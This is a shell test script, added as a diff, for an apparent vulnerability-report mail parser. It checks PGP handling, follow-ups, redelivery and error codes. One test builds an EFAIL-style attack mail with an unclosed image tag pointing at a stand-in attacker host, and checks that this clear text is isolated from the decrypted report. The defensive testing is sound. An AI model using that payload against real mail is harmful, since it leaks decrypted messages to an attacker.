@@ -1,0 +1,189 @@
+#!/bin/sh
+# vf-parse on real mail: clear, PGP/MIME, inline, signed, undecryptable,
+# partly encrypted (EFAIL), follow-ups, redelivery, line ends, and the
+# configuration errors that must leave nothing behind.
+. "$(dirname "$0")/lib.sh"
+
+command -v gpg >/dev/null || skip_all "gpg not installed"
+make_keys reporter stranger || skip_all "cannot make gpg keys"
+make_root
+
+sw="$work/sw.txt"
+cat >"$sw" <<'EOF'
+1. 届出者情報
+氏名: 山田太郎
+電子メールアドレス: taro@example.jp
+2. 脆弱性情報
+製品名: ExampleWiki
+バージョン: 2.3.1
+脆弱性の概要:
+  ページ編集画面にクロスサイトスクリプティングの脆弱性があります。
+EOF
+
+field() { # CASEFILE NAME: the field's first line
+	sed -n "/^Vf-Part: fields/,/^--/p" "$1" | sed -n "s/^$2: //p" | sed -n 1p
+}
+header() { sed -n "1,/^\$/s/^$2: //p" "$1" | sed -n 1p; }
+ncases() { find "$VF_ROOT" -path '*/new/*' -o -path '*/cur/*' | grep -c .; }
+
+# --- a clear Japanese report
+mail 'Yamada Taro <taro@example.jp>' \
+    '=?UTF-8?B?44K944OV44OI44Km44Ko44Ki6KO95ZOB6ISG5byx5oCn6Zai6YCj5oOF5aCx44Gu5bGK5Ye6?=' \
+    "$sw" >"$work/m1"
+p1=$(vf-parse <"$work/m1" 2>"$work/err")
+ok $? "clear report: exit 0"
+case $p1 in "$VF_ROOT"/received/new/2*) ok 0 "path printed is in received/new" ;;
+*) ok 1 "path printed is in received/new: '$p1'" ;; esac
+test -f "$p1"
+ok $? "case file exists"
+is "$(stat -c %a "$p1")" 600 "case file mode 0600"
+is "$(stat -c %a "$VF_ROOT")" 700 "root mode 0700"
+is "$(stat -c %a "$VF_ROOT/received")" 700 "state folder mode 0700"
+is "$(header "$p1" Vf-Kind)" software "kind from the IPA subject line"
+is "$(field "$p1" reporter.name)" "山田太郎" "reporter.name extracted"
+is "$(field "$p1" product.name)" "ExampleWiki" "product.name extracted"
+is "$(header "$p1" Vf-Encryption)" none "clear mail: no encryption"
+id1=$(header "$p1" Vf-Id)
+grep -q "^Subject: \[VF#$id1\]" "$p1"
+ok $? "case id in the Subject"
+
+# The original is kept, encrypted to the office key: decrypt it back.
+sed -n '/^-----BEGIN PGP MESSAGE-----/,/^-----END PGP MESSAGE-----/p' "$p1" \
+    >"$work/orig.asc"
+gpg --batch --quiet --decrypt "$work/orig.asc" >"$work/orig" 2>/dev/null
+cmp -s "$work/orig" "$work/m1"
+ok $? "original kept encrypted, decrypts to the mail byte for byte"
+if grep -q "ExampleWiki" "$work/orig.asc"; then ok 1 "original not in clear"
+else ok 0 "original not in clear"; fi
+
+# --- PGP/MIME, encrypted and signed by the reporter
+pgpmime 'Yamada Taro <taro@example.jp>' 'Software Vulnerability Report' \
+    "$sw" "$OFFICE_FPR" "$FPR_reporter" >"$work/m2"
+p2=$(vf-parse <"$work/m2" 2>"$work/err")
+ok $? "PGP/MIME: exit 0"
+is "$(header "$p2" Vf-Encryption)" "pgp-mime ok" "PGP/MIME decrypted"
+is "$(header "$p2" Vf-Signature | cut -d' ' -f1,2)" "good $FPR_reporter" \
+    "signature recorded as good with the signer's fingerprint"
+is "$(header "$p2" Vf-Protection)" encrypted "report protection: encrypted"
+is "$(field "$p2" reporter.email)" "taro@example.jp" "fields from decrypted text"
+grep -q '^Vf-Original: as-received' "$p2"
+ok $? "ciphertext-only mail kept as it came"
+
+# --- encrypted to a key the office does not have
+GNUPGHOME_SAVE=$GNUPGHOME
+mkdir -m 700 "$work/other"
+gpg --batch --quiet --armor --export "$FPR_stranger" >"$work/stranger.asc"
+gpg --batch --quiet --yes --delete-secret-keys "$FPR_stranger" 2>/dev/null
+pgpmime 'x@example.net' 'report' "$sw" "$FPR_stranger" >"$work/m3"
+p3=$(vf-parse <"$work/m3" 2>"$work/err")
+ok $? "undecryptable mail still becomes a case (exit 0)"
+is "$(header "$p3" Vf-Encryption)" "pgp-mime failed" "marked: not decrypted"
+header "$p3" Vf-Problem | grep -q "no secret key"
+ok $? "problem says why: no secret key"
+grep -q '^-----BEGIN PGP MESSAGE-----' "$p3"
+ok $? "undecryptable original kept"
+
+# --- partly encrypted: clear text beside ciphertext is never merged (EFAIL)
+pgpmime 'Yamada Taro <taro@example.jp>' 'x' "$sw" "$OFFICE_FPR" \
+    | sed '1,/^$/d' >"$work/encbody"
+{
+	printf 'From: attacker@example.org\nSubject: report\nMIME-Version: 1.0\n'
+	printf 'Content-Type: multipart/mixed; boundary="outer"\n\n'
+	printf -- '--outer\nContent-Type: text/plain; charset=utf-8\n\n'
+	printf '氏名: 攻撃者\n製品名: INJECTED\n<img src="http://attacker.example/\n'
+	printf -- '--outer\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b1"\n\n'
+	cat "$work/encbody"
+	printf -- '--outer--\n'
+} >"$work/m4"
+p4=$(vf-parse <"$work/m4" 2>"$work/err")
+ok $? "partly encrypted mail: exit 0"
+is "$(field "$p4" reporter.name)" "山田太郎" "report fields come from the encrypted part only"
+sed -n '/^Vf-Part: report/,/^--=_vf/p' "$p4" | grep -q INJECTED
+is $? 1 "clear text not merged into the report"
+sed -n '/^Vf-Part: unprotected/,/^--=_vf/p' "$p4" | grep -q INJECTED
+ok $? "clear text kept apart, marked unprotected"
+
+# --- inline clearsigned
+gpg --batch --quiet --local-user "$FPR_reporter" --clearsign <"$sw" >"$work/signed.txt"
+mail 'taro@example.jp' 'Software Vulnerability Report' "$work/signed.txt" >"$work/m5"
+p5=$(vf-parse <"$work/m5" 2>"$work/err")
+ok $? "clearsigned: exit 0"
+is "$(header "$p5" Vf-Signature | cut -d' ' -f1,2)" "good $FPR_reporter" "inline signature good"
+is "$(field "$p5" product.name)" "ExampleWiki" "fields from signed text"
+
+# --- follow-up by subject tag, then by In-Reply-To
+printf '追加の情報です。\n' >"$work/fu.txt"
+mail 'taro@example.jp' "Re: [VF#$id1] 追加" "$work/fu.txt" >"$work/m6"
+before=$(ncases)
+p6=$(vf-parse <"$work/m6" 2>"$work/err")
+ok $? "follow-up: exit 0"
+is "$p6" "$p1" "follow-up filed on its case"
+is "$(ncases)" "$before" "no new case for a follow-up"
+grep -q '^Vf-Part: followup' "$p1"
+ok $? "follow-up part added"
+grep -q '追加の情報です' "$p1"
+ok $? "follow-up text kept"
+{
+	printf 'From: taro@example.jp\nSubject: no tag here\n'
+	printf 'In-Reply-To: <vf.%s.17.abc@example.jp>\n\nanother answer\n' "$id1"
+} >"$work/m7"
+p7=$(vf-parse <"$work/m7" 2>"$work/err")
+is "$p7" "$p1" "follow-up threaded by In-Reply-To"
+is "$(grep -c '^Vf-Part: followup' "$p1")" 2 "two follow-ups recorded"
+
+# --- the same mail again: idempotent
+before=$(ncases)
+again=$(vf-parse <"$work/m1" 2>"$work/err")
+ok $? "redelivery: exit 0"
+is "$again" "$p1" "redelivery names the same case"
+is "$(ncases)" "$before" "redelivery files nothing new"
+cp "$p1" "$work/p1.before"
+vf-parse <"$work/m6" >/dev/null 2>&1
+cmp -s "$p1" "$work/p1.before"
+ok $? "redelivered follow-up changes nothing"
+
+# --- line ends and the mbox From_ line
+for v in crlf cr from; do
+	case $v in
+	crlf) sed 's/$/\r/' "$work/m1" ;;
+	cr) tr '\n' '\r' <"$work/m1" ;;
+	from) { echo 'From taro@example.jp Thu Nov 26 10:00:00 2026'; cat "$work/m1"; } ;;
+	esac >"$work/m8"
+	p8=$(vf-parse <"$work/m8" 2>"$work/err")
+	ok $? "$v: exit 0"
+	is "$(field "$p8" reporter.name)" "山田太郎" "$v: fields extracted"
+done
+
+# --- a broken mail is still a case, marked
+printf 'Subject: x\nContent-Type: multipart/mixed; boundary="q"\n\n--q\nContent-Transfer-Encoding: base64\n\n!!!***\n' >"$work/m9"
+p9=$(vf-parse <"$work/m9" 2>"$work/err")
+ok $? "broken MIME: exit 0"
+test -n "$(header "$p9" Vf-Problem)"
+ok $? "broken MIME: problem recorded"
+
+# --- errors that must leave nothing behind
+vf-parse </dev/null >/dev/null 2>&1
+is $? 66 "empty input: 66"
+before=$(ncases)
+cp "$VF_ROOT/config" "$work/config.good"
+grep -v office-key "$work/config.good" >"$VF_ROOT/config"
+vf-parse <"$work/m1" >/dev/null 2>"$work/err"
+is $? 78 "no office-key: 78"
+grep -q office-key "$work/err"
+ok $? "no office-key: says so"
+sed "s/^office-key .*/office-key 0123456789ABCDEF0123456789ABCDEF01234567/" \
+    "$work/config.good" >"$VF_ROOT/config"
+printf 'Subject: new\n\nnew text\n' | vf-parse >/dev/null 2>"$work/err"
+is $? 78 "office key not in the keyring: 78"
+is "$(ncases)" "$before" "configuration errors file nothing"
+is "$(find "$VF_ROOT" -path '*/tmp/*' -type f | grep -c .)" 0 "nothing left in tmp/"
+cp "$work/config.good" "$VF_ROOT/config"
+chmod 770 "$VF_ROOT"
+vf-parse <"$work/m1" >/dev/null 2>&1
+is $? 77 "a root others can write is refused: 77"
+chmod 700 "$VF_ROOT"
+
+grep -q "vf-parse $id1 new software case" "$VF_ROOT/log"
+ok $? "log records the new case"
+
+done_testing
